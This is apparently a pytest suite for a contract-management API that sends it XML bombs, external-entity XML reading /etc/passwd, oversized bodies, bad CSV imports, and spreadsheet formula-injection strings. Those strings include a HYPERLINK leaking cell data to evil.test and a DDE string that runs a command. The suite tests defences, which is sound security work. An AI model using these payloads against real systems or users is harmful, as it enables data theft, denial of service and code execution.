"""Input meant to hurt: XML bombs and external entities, bodies far over the limit, an import
file of nothing but bad rows, and text that a spreadsheet would run as a formula.

Memory is measured with tracemalloc over the served app, which runs in this process: its peak
is bounded in bytes, never timed.
"""

from __future__ import annotations

import csv
import io
import socket
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import openpyxl
import pytest

from tests.api.client import Client
from tests.api.conftest import World, refused, succeeded
from tests.api.server import projection_workers
from tests.api.test_policy import endpoints
from tests.api.test_tokens import filled

MB = 1024 * 1024

# "Billion laughs": ten levels of ten references, a gigabyte of "lol" once expanded.
XML_BOMB = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (level, b"".join(b"&lol%d;" % (level - 1) for _ in range(10)))
        for level in range(1, 10)
    )
    + b"]>\n<lolz>&lol9;</lolz>\n"
)


def external_entities(canary: str) -> bytes:
    """XML whose entities would read a local file and fetch a URL, were they ever resolved."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE contract [\n'
        b'<!ENTITY passwd SYSTEM "file:///etc/passwd">\n'
        + b'<!ENTITY remote SYSTEM "%s">\n]>\n' % canary.encode()
        + b"<contract><title>&passwd;&remote;</title></contract>\n"
    )


# Every endpoint is sent the plain XML types; the other XML types are tried on one.
XML_TYPES = ["application/xml", "text/xml; charset=utf-8"]
OTHER_XML_TYPES = [
    "application/atom+xml",
    "image/svg+xml",
    "application/xhtml+xml",
    "application/xml-dtd",
    "text/xml-external-parsed-entity",
    "APPLICATION/XML",
]


@contextmanager
def peak_memory() -> Iterator[Callable[[], int]]:
    """The peak bytes allocated by this process (the served app included) within the block."""
    tracemalloc.start()
    try:
        yield lambda: tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@contextmanager
def canary() -> Iterator[tuple[str, Callable[[], bool]]]:
    """A URL nobody should fetch, and a way to ask whether anybody tried."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)

        def was_called() -> bool:
            # A connection completes in the kernel's backlog whether or not it is accepted.
            try:
                listener.accept()[0].close()
            except BlockingIOError:
                return False
            return True

        yield f"http://127.0.0.1:{listener.getsockname()[1]}/entity", was_called


# -- XML ----------------------------------------------------------------------------------------


def test_xml_is_refused_at_every_endpoint_before_it_is_read(world: World, tmp_path: Path) -> None:
    with canary() as (url, was_called), peak_memory() as peak:
        answers = {
            (method, path, media_type, name): world.admin.http.request(
                method, filled(path), content=body, headers={"Content-Type": media_type}
            )
            for method, path, _ in endpoints(tmp_path)
            for media_type in XML_TYPES
            for name, body in (("bomb", XML_BOMB), ("entities", external_entities(url)))
        }
        fetched = was_called()
        used = peak()

    not_refused = {key: r.status_code for key, r in answers.items() if r.status_code != 415}
    assert not_refused == {}
    for response in answers.values():
        refused(response, 415, "unsupported-media-type")
        assert "root:" not in response.text
    assert not fetched
    # A gigabyte once expanded: a few megabytes for some three hundred requests and their
    # answers shows that no entity was.
    assert used < 16 * MB


@pytest.mark.parametrize("media_type", OTHER_XML_TYPES)
def test_every_kind_of_xml_is_refused(world: World, media_type: str) -> None:
    response = world.commissioner.http.post(
        "/contracts", content=XML_BOMB, headers={"Content-Type": media_type}
    )

    refused(response, 415, "unsupported-media-type")


@pytest.mark.parametrize("media_type", ["application/json", "text/csv", "text/plain"])
def test_a_bomb_sent_as_something_else_is_never_read_as_xml(world: World, media_type: str) -> None:
    with peak_memory() as peak:
        response = world.commissioner.http.post(
            "/contracts", content=XML_BOMB, headers={"Content-Type": media_type}
        )
        used = peak()

    assert response.status_code in (400, 415, 422)
    assert response.headers["content-type"] == "application/problem+json"
    assert used < 4 * MB


# -- bodies over the limit -----------------------------------------------------------------------


def _raw_exchange(world: World, head: bytes, body_sent: bytes) -> bytes:
    """Send a request's head and part of its body, then read the answer without sending more:
    the server closes the connection once it has answered."""
    address = urlsplit(world.url)
    with socket.create_connection((address.hostname, address.port), timeout=30) as connection:
        connection.sendall(head + body_sent)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return answer


def _token(client: Client) -> bytes:
    return client.http.headers["Authorization"].encode()


@pytest.mark.parametrize("path", ["/contracts", "/imports/ofsted", "/imports/dfe"])
def test_a_ten_megabyte_body_is_refused_with_413_before_it_is_sent(world: World, path: str) -> None:
    head = (
        b"POST %s HTTP/1.1\r\nHost: test\r\nAuthorization: %s\r\n"
        b"Content-Type: text/csv\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
        % (path.encode(), _token(world.admin), 10 * MB)
    )

    # Not one byte of the body is sent: the declared length alone has it refused.
    answer = _raw_exchange(world, head, b"")

    status_line, _, rest = answer.partition(b"\r\n")
    assert status_line == b"HTTP/1.1 413 Request Entity Too Large"
    assert b"content-type: application/problem+json" in rest.lower()


def test_a_streamed_body_is_refused_with_413_once_it_passes_the_limit(world: World) -> None:
    limit = world.settings.max_body_bytes
    # One byte over the limit, and no last chunk: as far as the server knows, the body goes on.
    # All of it is read before the refusal, so nothing unread makes the server's close a reset.
    chunks = [b"x" * 65536] * (limit // 65536) + [b"x" * (limit % 65536 + 1)]
    sent = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in chunks)
    head = (
        b"POST /imports/ofsted HTTP/1.1\r\nHost: test\r\nAuthorization: %s\r\n"
        b"Content-Type: text/csv\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        % _token(world.admin)
    )

    with peak_memory() as peak:
        answer = _raw_exchange(world, head, sent)
        used = peak()

    assert answer.startswith(b"HTTP/1.1 413 ")
    assert used < 4 * limit


def test_a_ten_megabyte_body_sent_whole_is_refused_with_413(world: World) -> None:
    response = world.admin.http.post(
        "/imports/ofsted", content=b"x" * (10 * MB), headers={"Content-Type": "text/csv"}
    )

    refused(response, 413, "request-too-large")


def test_an_import_that_is_not_csv_or_a_form_is_refused_unread(world: World) -> None:
    for media_type in ("application/json", "application/octet-stream", "text/html"):
        response = world.admin.http.post(
            "/imports/ofsted", content=b'{"rows": []}', headers={"Content-Type": media_type}
        )
        refused(response, 415, "unsupported-media-type")


# -- an import of nothing but bad rows ------------------------------------------------------------

OFSTED_HEADER = (
    "Web link,Local authority area code,Local authority name,Ofsted region,Inspection date,"
    "Publication date,Overall effectiveness,"
    "The impact of leaders on social work practice with children and families,"
    "The experiences and progress of children who need help and protection,"
    "The experiences and progress of children in care,"
    "The experiences and progress of care leavers"
)


DFE_TABLE = "c1_children_in_need_referrals_and_rereferrals_2013_to_2025.csv"
DFE_HEADER = (
    "time_period,time_identifier,geographic_level,country_code,country_name,region_code,"
    "region_name,old_la_code,new_la_code,la_name,category,referral_count,rereferral_count,"
    "rereferral_percent,no_further_action_count,no_further_action_percent,not_in_need_count,"
    "not_in_need_percent,referral_child_count,rereferral_child_count,rereferral_child_percent"
)


def ofsted_rows(line: int) -> str:
    # An unknown authority, a month that does not exist and a grade that is not Ofsted's.
    return (
        f",E09{line:06d},Nowhere,London,2023-13-{line % 28 + 1:02d},2023-09-04,"
        "Brilliant,Good,Good,Good,Good"
    )


def dfe_rows(line: int) -> str:
    # A year that is not one, and no figures.
    return f"20x{line % 10},Reporting year,National,E92000001,England,,,,,,Referrals,,,,,,,,,,"


# Per importer: the endpoint, the file's name, its header and how to spoil line n.
IMPORTS = {
    "ofsted": ("/imports/ofsted", "bad.csv", OFSTED_HEADER, ofsted_rows),
    "dfe": ("/imports/dfe", DFE_TABLE, DFE_HEADER, dfe_rows),
}


@pytest.mark.parametrize("source", IMPORTS)
def test_ten_thousand_bad_rows_are_each_reported_by_line_and_nothing_is_written(
    world: World, source: str
) -> None:
    path, name, header, spoiled = IMPORTS[source]
    table = "\n".join([header, *(spoiled(line) for line in range(2, 10_002))]).encode()
    assert len(table) < world.settings.max_body_bytes
    before = world.admin.checkpoint().json()["tree_size"]

    with peak_memory() as peak:
        response = world.admin.http.post(
            path, content=table, params={"name": name}, headers={"Content-Type": "text/csv"}
        )
        used = peak()

    problem = refused(response, 422, "invalid-table")
    assert {error["line"] for error in problem["errors"]} == set(range(2, 10_002))
    assert {error["file"] for error in problem["errors"]} == {name}
    assert world.admin.checkpoint().json()["tree_size"] == before
    # The tables are under 1 MB. Reading one, checking every row and answering with every one
    # of its problems peaked near 21 MB when measured; the bound leaves room, not the ledger.
    assert used < 40 * MB


# -- exports -------------------------------------------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The API trims the whitespace around a text, so a tab or carriage return ahead of a formula
# reaches the export as the formula alone (exports specify the tab and CR cases themselves).
HOSTILE = {
    "title": '=HYPERLINK("https://evil.test/?leak="&A1,"Open")',
    "kpi title": "+cmd|' /C calc'!A0",
    "kpi reference": "@SUM(A1)",
    "grounds, tab": "\t=1+1",
    "grounds, carriage return": "\r=2+2",
    "grounds, minus": "-3+3",
}


@pytest.fixture(scope="module")
def hostile_contract(world: World) -> Iterator[dict[str, Any]]:
    """A live contract whose title, local KPI and notices start as formulas, on the dashboards."""
    with projection_workers(world.settings):
        drafted = world.draft(title=HOSTILE["title"])
        defined = succeeded(
            world.commissioner.define_local_indicator(
                drafted["id"],
                code="hostile_visits",
                title=HOSTILE["kpi title"],
                unit="percentage",
                polarity="higher-is-better",
                decimals=1,
                has_fraction=False,
                definition="Visits made on time",
            )
        )
        scheduled = succeeded(
            world.commissioner.schedule_kpi(
                defined["id"],
                "hostile_visits",
                reference=HOSTILE["kpi reference"],
                frequency="annual",
                due_working_days=10,
                targets={"2024-25": "90"},
            )
        )
        contract = world.signed_by_both(scheduled)
        position = ""
        for key in ("grounds, tab", "grounds, carriage return", "grounds, minus"):
            issued = world.commissioner.issue_notice(
                contract["id"],
                grounds=HOSTILE[key],
                clauses=["7.2"],
                remedy="Restore timeliness",
                issued_on="2019-05-02",
                response_due="2019-05-30",
            )
            assert issued.status_code == 201, issued.text
            position = issued.headers["Trustledger-Position"]
        caught_up = world.commissioner.dashboard(contract["id"], min_position=position)
        assert caught_up.status_code == 200, caught_up.text
        yield contract


def _export(world: World, contract: dict[str, Any], export: str) -> httpx.Response:
    response = world.commissioner.dashboard(contract["id"], format=export)
    assert response.status_code == 200, response.text
    return response


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_no_cell_of_an_xlsx_export_is_a_formula(
    world: World, hostile_contract: dict[str, Any]
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(_export(world, hostile_contract, "xlsx").content))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [text for text in texts if text.startswith(TRIGGERS)] == []
    # The hostile texts are there, shown with a leading apostrophe, so the check above saw them.
    for hostile in HOSTILE.values():
        assert any(text.startswith(f"'{hostile.strip()}") for text in texts), hostile


def test_every_csv_cell_a_spreadsheet_would_run_is_neutralised(
    world: World, hostile_contract: dict[str, Any]
) -> None:
    body = _export(world, hostile_contract, "csv").content.decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]

    assert [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)] == []
    for hostile in HOSTILE.values():
        assert any(cell.startswith(f"'{hostile.strip()}") for cell in cells), hostile
